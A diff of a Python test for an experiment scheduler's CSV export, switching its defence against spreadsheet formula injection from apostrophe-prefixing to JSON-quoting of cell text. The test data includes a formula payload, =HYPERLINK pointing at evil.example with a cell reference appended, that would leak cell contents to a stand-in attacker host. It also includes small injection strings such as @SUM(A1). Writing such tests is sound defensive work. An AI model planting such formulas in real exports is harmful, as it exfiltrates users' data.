@@ -200,7 +200,8 @@ def test_an_empty_search_shows_no_importance_section_and_asks_for_none(page, ser
 
 
 def test_the_csv_download_does_not_hand_a_spreadsheet_a_formula(page, service, api):
-    """Texts starting with = + - @ get an apostrophe (not run when the file is opened); numbers stay numbers."""
+    """Texts starting with = + - @ are written as JSON, quotes included (text when the file is opened, and read
+    back as the same text by ``schedy import``); numbers stay numbers."""
     import csv
 
     fill.put(api, fill.exp_path("formulas"), {"scheduler": {"Manual": None}})
@@ -216,6 +217,7 @@ def test_the_csv_download_does_not_hand_a_spreadsheet_a_formula(page, service, a
     rows = list(csv.DictReader(Path(caught.value.path()).read_text(encoding="utf-8").splitlines()))
     assert len(rows) == 1
     row = rows[0]
-    assert row["hp.h"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
-    assert (row["res.tag"], row["res.sign"], row["res.dash"]) == ("'@SUM(A1)", "'+1", "'-2+3")
-    assert (row["hp.plain"], row["res.loss"]) == ("sgd", "-1.5")
+    assert row["hyperparameters.h"] == json.dumps(body["hyperparameters"]["h"])
+    assert row["hyperparameters.h"].startswith('"=HYPERLINK')
+    assert (row["results.tag"], row["results.sign"], row["results.dash"]) == ('"@SUM(A1)"', '"+1"', '"-2+3"')
+    assert (row["hyperparameters.plain"], row["results.loss"]) == ("sgd", "-1.5")
